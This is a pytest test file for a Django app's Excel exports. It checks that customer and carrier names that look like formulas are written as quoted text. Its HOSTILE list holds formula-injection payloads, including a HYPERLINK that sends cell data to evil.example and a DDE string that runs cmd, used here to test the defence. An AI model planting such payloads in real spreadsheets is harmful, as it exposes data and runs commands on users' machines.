"""Excel exports never carry formulas: text a spreadsheet could take for a formula (or an error
value) is written as text, whatever a customer's or carrier's name holds."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from stemline.core.models import Role
from stemline.parties.models import Carrier, Customer

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def _cells(response, column):
    sheet = load_workbook(BytesIO(response.getvalue())).active
    header = [cell.value for cell in sheet[1]]
    index = header.index(column)
    return [row[index] for row in sheet.iter_rows(min_row=2)]


def test_customer_names_that_look_like_formulas_are_exported_as_text(as_role, company):
    for name in HOSTILE:
        Customer.objects.create(company=company, name=name)
    Customer.objects.create(company=company, name="Bloom Florist")
    cells = _cells(as_role(Role.SETUP).get(reverse("customers_export")), "Name")
    # XML reads a carriage return back as a line feed; the text is otherwise what was stored.
    by_value = {cell.value.replace("\n", "\r"): cell for cell in cells}
    assert set(by_value) == {*HOSTILE, "Bloom Florist"}
    for name in HOSTILE:
        cell = by_value[name]
        assert cell.data_type == "s", f"{name!r} exported as {cell.data_type!r}"
        # Stays text when someone edits the cell in Excel (the leading apostrophe).
        assert cell.quotePrefix, name
    # Ordinary text is untouched, and numbers stay numbers.
    assert not by_value["Bloom Florist"].quotePrefix
    ids = _cells(as_role(Role.SETUP).get(reverse("customers_export")), "Id")
    assert all(cell.data_type == "n" for cell in ids)


def test_carrier_export_writes_a_formula_name_as_text(as_role, company):
    Carrier.objects.create(company=company, name='=WEBSERVICE("http://x")', code="=X")
    cells = _cells(as_role(Role.ADMIN).get(reverse("carriers_export")), "Name")
    assert [(c.value, c.data_type) for c in cells] == [('=WEBSERVICE("http://x")', "s")]


def test_the_customer_export_streams_and_keeps_text_as_stored(as_role, company):
    Customer.objects.create(company=company, name="  Bloom & <Sons>\x01 ", phone="")
    response = as_role(Role.SETUP).get(reverse("customers_export"))
    assert response.streaming and response["Content-Type"].startswith("application/vnd.openxml")
    [row] = list(load_workbook(BytesIO(response.getvalue())).active.iter_rows(values_only=True))[1:]
    # Spaces kept, XML's special characters escaped, a control character XML cannot hold
    # dropped; an empty cell keeps the next one in its column.
    assert row[1] == "  Bloom & <Sons> " and row[6] == "Yes"


def test_every_kind_of_value_is_read_back_in_its_column():
    from datetime import date, datetime
    from decimal import Decimal

    from stemline.web.exports import xlsx_chunks

    rows = [[1, None, Decimal("12.50"), date(2026, 2, 14), datetime(2026, 2, 14, 9, 30), True]]
    data = b"".join(xlsx_chunks("Kinds", ["a", "b", "c", "d", "e", "f"], rows))
    sheet = load_workbook(BytesIO(data)).active
    assert [c.value for c in sheet[1]] == ["a", "b", "c", "d", "e", "f"]
    assert sheet["A1"].font.b
    values = [c.value for c in sheet[2]]
    assert values == [1, None, 12.5, datetime(2026, 2, 14), datetime(2026, 2, 14, 9, 30), True]
